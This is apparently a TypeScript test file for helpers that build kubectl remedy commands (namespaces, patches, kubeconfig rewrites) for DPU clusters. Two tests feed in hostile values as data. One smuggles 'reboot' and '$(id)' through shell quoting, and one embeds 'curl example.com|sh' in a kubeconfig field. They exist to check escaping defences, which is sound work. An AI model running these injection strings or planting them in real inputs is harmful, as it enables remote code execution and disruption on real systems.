import { aCluster, aWorld } from '@dpf-portal/test-support';
import {
  kubectlArgs,
  kubectlObject,
  patchArgument,
  patchCluster,
  rewriteKubeconfig,
} from './phrases';

describe('a command of a remedy', () => {
  it('names the API group of the cluster unless only one is known to be served', () => {
    const full = '-n team-b edit dpuclusters.provisioning.dpu.nvidia.com green';
    expect(kubectlArgs(aCluster(), undefined, 'edit')).toBe(full);
    expect(kubectlArgs(aCluster(), aWorld(), 'edit')).toBe(
      '-n team-b edit dpucluster green',
    );
  });

  it('keeps every value within the quotes of the shell and within its backticks', () => {
    const value = `x'; reboot; echo \`id\` "$(id)" '`;
    const argument = patchArgument({ value });
    expect(argument).not.toContain('`');
    // What a shell makes of it.
    expect(argument.startsWith("'") && argument.endsWith("'")).toBe(true);
    const word = argument.slice(1, -1).replaceAll(`'\\''`, "'");
    expect(JSON.parse(word)).toEqual({ value });
    expect(argument.slice(1, -1).replaceAll(`'\\''`, '')).not.toContain("'");
  });

  it('patches the cluster with JSON', () => {
    expect(patchCluster(aCluster(), { spec: { maxNodes: 3 } }, aWorld())).toBe(
      `\`kubectl -n team-b patch dpucluster green --type=merge -p '{"spec":{"maxNodes":3}}'\``,
    );
  });

  it('names the namespace of an object that has one', () => {
    expect(kubectlObject('describe', 'node', { name: 'host-1' })).toBe(
      '`kubectl describe node host-1`',
    );
    expect(
      kubectlObject('delete', 'DaemonSet', { namespace: 'a', name: 'b' }),
    ).toBe('`kubectl -n a delete daemonset b`');
  });

  it('is left out where spec.kubeconfig is no name of a Secret', () => {
    const remedy = rewriteKubeconfig(
      aCluster({ spec: { kubeconfig: 'x` and `curl example.com|sh' } }),
    );
    expect(remedy).toBe(
      'Let Kamaji write the kubeconfig again: delete the Secret that spec.kubeconfig names.',
    );
  });
});
